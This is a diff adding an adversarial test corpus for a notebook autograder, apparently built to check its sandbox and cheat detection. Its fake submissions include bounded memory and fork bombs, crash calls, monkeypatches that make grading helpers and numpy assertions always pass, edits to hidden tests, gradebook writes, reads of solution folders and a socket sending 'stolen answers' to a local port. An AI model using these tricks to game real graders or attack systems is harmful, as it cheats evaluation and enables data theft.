@@ -1,0 +1,328 @@
+"""The adversarial corpus: submissions of notebook 00 that try to break the grading.
+
+Each case edits a copy of the source notebook (complete answers, hidden tests) or of the
+release programmatically and states what grading must give: the autograded score out of 8,
+the status, and the flags (substrings) the export must show. Cases that need a live value
+(the course directory, a port the test listens on) take it from ``ctx``.
+
+Every runaway case stops by itself at a size this machine survives, even without the
+sandbox: the memory bomb at 3 GB, the process bomb at 300 processes that exit after 2 s,
+the print flood at 10**7 short lines.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+
+NB00 = "00_backprop_refresher"
+MAX = 8.0
+
+
+def meta(cell) -> dict:
+    return cell.get("metadata", {}).get("nbgrader", {})
+
+
+def cell(nb, grade_id: str):
+    return next(c for c in nb.cells if meta(c).get("grade_id") == grade_id)
+
+
+def copy_nb(nb):
+    return nbformat.from_dict(json.loads(json.dumps(nb)))
+
+
+@dataclass
+class Case:
+    """One student's submission and what grading it must give."""
+
+    build: Callable[[dict], dict[str, str | bytes]]  # ctx -> {file name: content}
+    score: float | None  # autograded points (None: no grade recorded)
+    status: str = "graded"
+    flags: list[str] = field(default_factory=list)  # substrings expected among the flags
+    no_flags: bool = False  # the export must show no flag at all
+    reason: str = ""  # substring of the failure reason
+    sandbox_only: str = ""  # what only holds inside the sandbox (for the report)
+
+
+WRONG_REL_ERROR = """
+def rel_error(a, b, floor=1e-8):
+    # the common mistake: relative to b only
+    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
+    return float(np.max(np.abs(a - b) / np.maximum(np.abs(b), floor)))
+"""
+
+
+def _with(ctx, grade_id: str, code: str, where: str = "before", base: str = "source"):
+    nb = copy_nb(ctx[base])
+    c = cell(nb, grade_id)
+    c.source = code + "\n" + c.source if where == "before" else code
+    return nb
+
+
+def _files(nb, name: str = f"{NB00}.ipynb") -> dict[str, str]:
+    return {name: nbformat.writes(nb)}
+
+
+def solution(ctx):
+    return _files(ctx["source"])
+
+
+def blank(ctx):
+    return _files(ctx["release"])
+
+
+def partial(ctx):
+    return _files(_with(ctx, "rel_error", WRONG_REL_ERROR, where="replace"))
+
+
+def infinite_loop(ctx):
+    # loops for ever on the visible test's input only: the test cell times out, the rest runs
+    code = ctx["source_answer"]["numerical_gradient"].replace(
+        "    ### BEGIN SOLUTION\n",
+        "    ### BEGIN SOLUTION\n    if np.shape(x) == (3,):\n        while True:\n            pass\n",
+    )
+    return _files(_with(ctx, "numerical_gradient", code, where="replace"))
+
+
+MEMORY_BOMB = """
+import numpy as _np
+_blocks, _mb = [], 0
+try:
+    while _mb < 3000:  # stops by itself at 3 GB
+        _blocks.append(_np.ones(100 * 2**20 // 8))  # 100 MB, touched
+        _mb += 100
+except MemoryError:
+    pass
+print(f"memory bomb reached {_mb} MB")
+del _blocks
+"""
+
+
+def memory_bomb(ctx):
+    return _files(_with(ctx, "rel_error", MEMORY_BOMB))
+
+
+PROCESS_BOMB = """
+import os as _os, time as _time
+_pids = []
+try:
+    while len(_pids) < 300:  # stops by itself at 300 processes, which exit after 2 s
+        _pid = _os.fork()
+        if _pid == 0:
+            _time.sleep(2)
+            _os._exit(0)
+        _pids.append(_pid)
+except OSError as _err:
+    print(f"fork failed: {_err}")
+print(f"process bomb started {len(_pids)} processes")
+for _pid in _pids:
+    _os.waitpid(_pid, 0)
+"""
+
+
+def process_bomb(ctx):
+    return _files(_with(ctx, "linear_backward", PROCESS_BOMB))
+
+
+def os_exit(ctx):
+    return _files(_with(ctx, "rel_error", "import os\nos._exit(3)"))
+
+
+def segfault(ctx):
+    return _files(_with(ctx, "linear_backward", "import ctypes\nctypes.string_at(0)"))
+
+
+def sys_exit(ctx):
+    # IPython catches SystemExit: rel_error is never defined, the rest is graded
+    return _files(_with(ctx, "rel_error", "import sys\nsys.exit(0)"))
+
+
+def deleted_test(ctx):
+    nb = copy_nb(ctx["source"])
+    nb.cells = [c for c in nb.cells if meta(c).get("grade_id") != "test_rel_error"]
+    return _files(nb)
+
+
+def edited_test(ctx):
+    nb = _with(ctx, "rel_error", WRONG_REL_ERROR, where="replace")
+    t = cell(nb, "test_rel_error")
+    t.source = 'grading.passed("rel_error")'
+    t.metadata["nbgrader"]["points"] = 20
+    return _files(nb)
+
+
+PATCH_GRADING = """
+from vanishing import grading as _g
+_g.check = lambda exercise, fn, *args, expected=None, **kw: expected
+_g.assert_true = lambda *args, **kw: None
+def rel_error(a, b, floor=1e-8):
+    return 0.0
+"""
+
+
+def patched_grading(ctx):
+    # rel_error and linear_backward are wrong; the patched helpers pass them anyway
+    nb = _with(ctx, "rel_error", PATCH_GRADING, where="replace")
+    cell(nb, "linear_backward").source = cell(ctx["release"], "linear_backward").source
+    return _files(nb)
+
+
+PATCH_NUMPY_TESTING = """
+import numpy.testing
+numpy.testing.assert_allclose = lambda *args, **kwargs: None
+numpy.testing.assert_array_equal = lambda *args, **kwargs: None
+"""
+
+
+def patched_numpy_testing(ctx):
+    return _files(_with(ctx, "rel_error", PATCH_NUMPY_TESTING + WRONG_REL_ERROR, where="replace"))
+
+
+def print_flood(ctx):
+    code = 'import sys\nsys.stdout.write("spam\\n" * 10**7)  # 10**7 lines, 50 MB\n'
+    return _files(_with(ctx, "numerical_gradient", code))
+
+
+def write_course(ctx):
+    code = (
+        "for _path in [{!r}, {!r}]:\n"
+        "    try:\n"
+        "        with open(_path, 'a') as _fh:\n"
+        "            _fh.write('hacked')\n"
+        "        print('wrote', _path)\n"
+        "    except OSError as _err:\n"
+        "        print('write failed:', type(_err).__name__)\n"
+    ).format(str(ctx["root"] / "HACKED.txt"), str(ctx["root"] / "gradebook.db"))
+    return _files(_with(ctx, "rel_error", code))
+
+
+def read_secrets(ctx):
+    code = (
+        "import os\n"
+        "for _path in [{!r}, {!r}, {!r}]:\n"
+        "    try:\n"
+        "        _got = os.listdir(_path) if os.path.isdir(_path) else open(_path, 'rb').read(16)\n"
+        "        print('READ', _path, _got)\n"
+        "    except OSError as _err:\n"
+        "        print('read failed:', _path, type(_err).__name__)\n"
+    ).format(
+        str(ctx["root"] / "gradebook.db"),
+        str(ctx["repo"] / "solutions" / NB00),
+        str(ctx["root"] / "source" / NB00),
+    )
+    return _files(_with(ctx, "rel_error", code))
+
+
+def socket_out(ctx):
+    code = (
+        "import socket\n"
+        "try:\n"
+        "    _s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
+        "    _s.sendall(b'stolen answers')\n"
+        "    _s.close()\n"
+        "    print('CONNECTED')\n"
+        "except OSError as _err:\n"
+        "    print('connect failed:', type(_err).__name__, _err)\n"
+    ).format(port=ctx["port"])
+    return _files(_with(ctx, "numerical_gradient", code))
+
+
+def invalid_json(ctx):
+    return {f"{NB00}.ipynb": '{"cells": [ this is not json'}
+
+
+def missing(ctx):
+    return {"notes.txt": "I forgot to attach the notebook\n"}
+
+
+def extra(ctx):
+    files = _files(ctx["source"])
+    files["scratch.ipynb"] = nbformat.writes(ctx["release"])
+    return files
+
+
+def renamed(ctx):
+    return _files(ctx["source"], name=f"{NB00}-1.ipynb")
+
+
+def late(ctx):
+    files = _files(ctx["source"])
+    files["timestamp.txt"] = ctx["late_timestamp"]
+    return files
+
+
+CASES: dict[str, Case] = {
+    "solution": Case(solution, MAX, no_flags=True),
+    "blank": Case(blank, 0.0, no_flags=True),
+    "partial": Case(partial, 6.0, no_flags=True),
+    "infinite_loop": Case(infinite_loop, 5.0),
+    "memory_bomb": Case(memory_bomb, MAX, sandbox_only="stops below 2 GB (RLIMIT_AS)"),
+    "process_bomb": Case(process_bomb, MAX, sandbox_only="stops below 128 (RLIMIT_NPROC)"),
+    "os_exit": Case(os_exit, None, status="failed", reason="kernel died"),
+    "segfault": Case(segfault, None, status="failed", reason="kernel died"),
+    "sys_exit": Case(sys_exit, 6.0),
+    "deleted_test": Case(deleted_test, MAX, flags=["test cell deleted: test_rel_error"]),
+    "edited_test": Case(
+        edited_test,
+        6.0,
+        flags=["test cell points changed: test_rel_error", "checksum mismatch): test_rel_error"],
+    ),
+    "patched_grading": Case(
+        patched_grading,
+        MAX,
+        flags=["patches _g.check", "vanishing.grading.check was replaced", "no longer fails"],
+    ),
+    "patched_numpy_testing": Case(
+        patched_numpy_testing,
+        6.0,
+        flags=["patches numpy.testing.assert_allclose", "numpy.testing.assert_allclose was replaced"],
+    ),
+    "print_flood": Case(print_flood, MAX),
+    "write_course": Case(
+        write_course, MAX, flags=["not accessible"], sandbox_only="the write fails"
+    ),
+    "read_secrets": Case(
+        read_secrets,
+        MAX,
+        flags=["refers to 'gradebook'", "refers to 'solutions'"],
+        sandbox_only="every read fails",
+    ),
+    "socket_out": Case(socket_out, MAX, sandbox_only="the connection fails"),
+    "invalid_json": Case(invalid_json, 0.0, flags=["invalid notebook (scored 0)"]),
+    "missing": Case(missing, 0.0, flags=["missing notebook (scored 0)"]),
+    "extra": Case(extra, MAX, flags=["extra notebook ignored: scratch.ipynb"]),
+    "renamed": Case(renamed, MAX, flags=["renamed notebook: 00_backprop_refresher-1.ipynb"]),
+    "late": Case(late, MAX * (1 - 0.3)),  # 2 days 1 hour late: 3 started days, 10 % each
+}
+
+
+def context(root: Path, repo: Path, port: int, late_timestamp: str) -> dict:
+    """What the builders need: the source and release notebooks and the live values."""
+    source = nbformat.read(root / "source" / NB00 / f"{NB00}.ipynb", as_version=4)
+    release = nbformat.read(root / "release" / NB00 / f"{NB00}.ipynb", as_version=4)
+    answers = {meta(c)["grade_id"]: c.source for c in source.cells if meta(c).get("solution")}
+    return {
+        "source": source,
+        "release": release,
+        "source_answer": answers,
+        "root": root,
+        "repo": repo,
+        "port": port,
+        "late_timestamp": late_timestamp,
+    }
+
+
+def write_submissions(submitted: Path, ctx: dict, names=None) -> None:
+    for name, case in CASES.items():
+        if names is not None and name not in names:
+            continue
+        folder = submitted / name / NB00
+        folder.mkdir(parents=True, exist_ok=True)
+        for fname, content in case.build(ctx).items():
+            mode = "wb" if isinstance(content, bytes) else "w"
+            with open(folder / fname, mode) as fh:
+                fh.write(content)
